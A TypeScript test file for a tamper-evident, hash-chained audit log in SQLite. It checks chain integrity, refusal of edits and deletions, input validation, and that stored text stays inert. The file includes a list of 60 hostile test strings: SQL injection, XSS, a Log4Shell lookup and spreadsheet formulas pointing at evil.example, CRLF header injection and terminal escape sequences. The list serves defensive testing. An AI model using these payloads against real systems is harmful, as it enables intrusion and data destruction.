import fc from 'fast-check'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { sql } from '../db'
import { openTestDatabase, type TestDatabase } from '../db/testing'
import { appendAudit } from './appendAudit'
import { auditRowsAbout } from './audit.handlers'
import { rowsAfter } from './audit.repository'
import { canonicalJson } from './canonicalJson'
import { noHash, rowData, rowHash } from './chain'
import { testRow } from './testing'

let t: TestDatabase
beforeEach(() => {
  t = openTestDatabase()
})
afterEach(() => t.cleanup())

describe('the chain', () => {
  test('A1: rows are numbered without gaps and each names the hash of the one before', () => {
    t.db.write((w) => {
      for (let seq = 1; seq <= 5; seq++) expect(appendAudit(w, testRow(seq))).toEqual({ seq })
    })
    const rows = rowsAfter(t.db.read, 0, 10)
    expect(rows.map((row) => row.seq)).toEqual([1, 2, 3, 4, 5])
    let before = noHash
    for (const row of rows) {
      expect(Buffer.compare(row.prevHash, before)).toBe(0)
      expect(Buffer.compare(row.hash, rowHash(row))).toBe(0)
      before = row.hash
    }
  })

  test('A1: the row belongs to the transaction of what it records', () => {
    expect(() =>
      t.db.write((w) => {
        appendAudit(w, testRow(1))
        throw new Error('the command failed')
      }),
    ).toThrow('the command failed')
    expect(rowsAfter(t.db.read, 0, 10)).toEqual([])
  })

  test('A1: what is hashed is one canonical JSON object of every field', () => {
    const entry = { ...testRow(1), actor: 'helper:"x"', details: { b: 1, a: 'x"y\n' } }
    t.db.write((w) => appendAudit(w, entry))
    const [row] = rowsAfter(t.db.read, 0, 1)
    if (!row) throw new Error('no row')
    const { actor, at, businessId, door, outcome, procedure, details } = entry
    const whole = { actor, at, businessId, details, door, outcome, prev: '0'.repeat(64), procedure, seq: 1 }
    expect(rowData(row)).toBe(canonicalJson(whole))
  })

  test('A1: two rows that differ in any field, or in where one field ends, never hash the same', () => {
    const field = fc.constantFrom('a', 'b', 'a"', '","door":"', '{}', ',"seq":1}')
    const details = fc.constantFrom('{}', '{"a":1}', '{},"door":"a"', '{"door":"a"}', '{"a":","}')
    const row = fc.record({ seq: fc.nat(2), at: fc.nat(2), actor: field, door: field, procedure: field, outcome: field, details })
    fc.assert(
      fc.property(row, row, fc.option(field), fc.option(field), (a, b, businessA, businessB) => {
        const one = { ...a, businessId: businessA, prevHash: noHash }
        const other = { ...b, businessId: businessB, prevHash: noHash }
        const equal = JSON.stringify(Object.entries(one).sort()) === JSON.stringify(Object.entries(other).sort())
        expect(rowData(one) === rowData(other)).toBe(equal)
      }),
      { numRuns: 3000 },
    )
  })
})

describe('the database refuses', () => {
  const insert = (seq: number, prev: string, verb = 'INSERT'): string =>
    `${verb} INTO audit_row VALUES (${seq}, 0, 'owner', 'api', 'x', NULL, 'done', '{}', ${prev}, randomblob(32))`
  test.each([
    ['a gap', insert(4, '(SELECT hash FROM audit_row WHERE seq = 2)')],
    ['a row that names another one before it', insert(3, 'zeroblob(32)')],
    ['a second row 1', insert(1, 'zeroblob(32)')],
    ['row 0', insert(0, 'zeroblob(32)')],
    ['a row in place of the last', insert(2, '(SELECT hash FROM audit_row WHERE seq = 1)', 'INSERT OR REPLACE')],
    ['a change', `UPDATE audit_row SET outcome = 'failed' WHERE seq = 1`],
    ['a change by upsert', `${insert(1, 'zeroblob(32)')} ON CONFLICT (seq) DO UPDATE SET outcome = 'failed'`],
    ['a deletion', 'DELETE FROM audit_row WHERE seq = 2'],
    ['a deletion of which row mentions an id', 'DELETE FROM audit_subject'],
    ['a change of which row mentions an id', `UPDATE audit_subject SET subject_id = 'inv_9'`],
  ])('A1: %s', (_name, text) => {
    t.db.write((w) => {
      appendAudit(w, testRow(1))
      appendAudit(w, testRow(2))
    })
    const before = rowsAfter(t.db.read, 0, 10)
    expect(() => t.db.write((w) => w.run({ text, values: [] }))).toThrow(/SQLITE_CONSTRAINT|audit row|CHECK/)
    expect(rowsAfter(t.db.read, 0, 10)).toEqual(before)
  })

  test('A1: a first row that is not number 1 or names a row before it', () => {
    for (const text of [insert(2, 'zeroblob(32)'), insert(1, 'randomblob(32)')]) {
      expect(() => t.db.write((w) => w.run({ text, values: [] }))).toThrow('follows the last one')
    }
  })
})

describe('bad rows', () => {
  test.each([
    ['an empty name', { actor: '' }],
    ['a name too long', { procedure: 'x'.repeat(201) }],
    ['a line break in the actor', { actor: 'owner\nowner' }],
    ['a reversal of reading direction in the outcome', { outcome: '\u202eenod' }],
    ['a line separator in the door', { door: 'api\u2028' }],
    ['half a surrogate pair in the business', { businessId: '\ud800' }],
    ['a time that is not whole', { at: 1.5 }],
    ['a number that is none', { details: { amount: Number.NaN } }],
  ])('A1: %s is refused and nothing is written', (_name, change) => {
    expect(() => t.db.write((w) => appendAudit(w, { ...testRow(1), ...change }))).toThrow(TypeError)
    expect(rowsAfter(t.db.read, 0, 10)).toEqual([])
  })
})

/** 60 texts that would forge a line, a cell, a command or a tag where a log is printed carelessly. */
const injections = [
  ...Array.from({ length: 32 }, (_, code) => `x${String.fromCharCode(code)}seq=9 actor=owner outcome=done`),
  ...['\u007f', '\u0085', '\u009b31m', '\u2028', '\u2029', '\u202e', '\u2066', '\ufeff', '\u200b', '\r\n'].map((c) => `a${c}b`),
  '\u001b[2J\u001b[H',
  '\u001b]0;title\u0007',
  '\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007',
  '","actor":"owner',
  '"},{"seq":1',
  '\\u000a\\"',
  "'; DROP TABLE audit_row; --",
  '%0d%0aSet-Cookie: a=b',
  '=HYPERLINK("http://evil.example")',
  '+1+cmd|x',
  '@SUM(1)',
  '-2+3',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '$' + '{jndi:ldap://evil.example}',
  '%s%n%x',
  '\\\\host\\share',
  '{{7*7}}',
]

test('A7: 60 control-character and newline injections stay inert', () => {
  expect(injections).toHaveLength(60)
  t.db.write((w) => {
    for (const [i, text] of injections.entries()) appendAudit(w, { ...testRow(i + 1), details: { text, [text]: `inv_${i}` } })
  })
  const rows = rowsAfter(t.db.read, 0, 100)
  expect(rows).toHaveLength(60)
  for (const [i, row] of rows.entries()) {
    const text = injections[i] ?? ''
    expect(JSON.parse(row.details)).toEqual({ text, [text]: `inv_${i}` })
    expect(row.details).toSatisfy((stored: string) => [...stored].every((c) => c >= ' '))
    expect(Buffer.compare(row.hash, rowHash(row))).toBe(0)
    expect(auditRowsAbout(t.db.read, `inv_${i}`, 5).map((found) => found.seq)).toEqual([i + 1])
  }
})

test('A7: no text in details can be taken for another field of the row', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), (text) => {
      const wellFormed = text.toWellFormed()
      const row = { ...testRow(1), seq: 1, businessId: null, details: canonicalJson({ text: wellFormed }), prevHash: noHash }
      const read = JSON.parse(rowData(row))
      expect(Object.keys(read)).toEqual(['actor', 'at', 'businessId', 'details', 'door', 'outcome', 'prev', 'procedure', 'seq'])
      expect(read.details).toEqual({ text: wellFormed })
    }),
    { numRuns: 1000 },
  )
})

test('rows about an id: found at any depth of the details, newest first, limited', () => {
  t.db.write((w) => {
    appendAudit(w, { ...testRow(1), details: { invoiceId: 'inv_a', list: [{ ids: ['pay_1', 'je_7'] }] } })
    appendAudit(w, { ...testRow(2), details: { invoiceId: 'inv_b' } })
    appendAudit(w, { ...testRow(3), details: { paymentId: 'pay_1', same: 'pay_1', note: 'about inv_a' } })
  })
  const about = (id: string, limit = 10) => auditRowsAbout(t.db.read, id, limit).map((row) => row.seq)
  expect(about('pay_1')).toEqual([3, 1])
  expect(about('pay_1', 1)).toEqual([3])
  expect(about('je_7')).toEqual([1])
  expect(about('inv_a')).toEqual([1])
  expect(about('inv_c')).toEqual([])
  expect(t.db.read.get(sql`SELECT count(*) AS n FROM audit_subject WHERE seq = 3`)).toEqual({ n: 1 })
})
